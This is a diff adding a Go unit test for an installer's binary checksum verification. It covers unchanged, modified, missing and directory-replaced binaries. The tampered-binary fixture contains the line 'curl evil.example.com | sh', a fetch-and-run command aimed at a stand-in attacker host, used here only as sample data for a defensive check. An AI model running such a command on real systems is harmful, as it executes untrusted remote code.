@@ -0,0 +1,78 @@
+package installer
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestVerifyBinary verifies detection of missing and modified binaries.
+func TestVerifyBinary(t *testing.T) {
+	content := []byte("#!/bin/sh\necho terraform\n")
+	sum := sha256.Sum256(content)
+	checksum := hex.EncodeToString(sum[:])
+
+	tests := []struct {
+		name    string
+		setup   func(t *testing.T, path string)
+		want    error
+		wantErr bool
+	}{
+		{
+			name: "unchanged binary",
+			setup: func(t *testing.T, path string) {
+				writeBinary(t, path, content)
+			},
+		},
+		{
+			name: "modified binary",
+			setup: func(t *testing.T, path string) {
+				writeBinary(t, path, []byte("#!/bin/sh\ncurl evil.example.com | sh\n"))
+			},
+			want:    ErrBinaryModified,
+			wantErr: true,
+		},
+		{
+			name:    "missing binary",
+			setup:   func(t *testing.T, path string) {},
+			want:    ErrBinaryMissing,
+			wantErr: true,
+		},
+		{
+			name: "replaced by a directory",
+			setup: func(t *testing.T, path string) {
+				if err := os.Mkdir(path, 0755); err != nil {
+					t.Fatal(err)
+				}
+			},
+			want:    ErrBinaryModified,
+			wantErr: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "terraform")
+			tt.setup(t, path)
+
+			err := VerifyBinary(path, strings.ToUpper(checksum))
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("VerifyBinary() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if tt.want != nil && !errors.Is(err, tt.want) {
+				t.Errorf("VerifyBinary() error = %v, want %v", err, tt.want)
+			}
+		})
+	}
+}
+
+func writeBinary(t *testing.T, path string, content []byte) {
+	t.Helper()
+	if err := os.WriteFile(path, content, 0755); err != nil {
+		t.Fatalf("failed to write binary: %v", err)
+	}
+}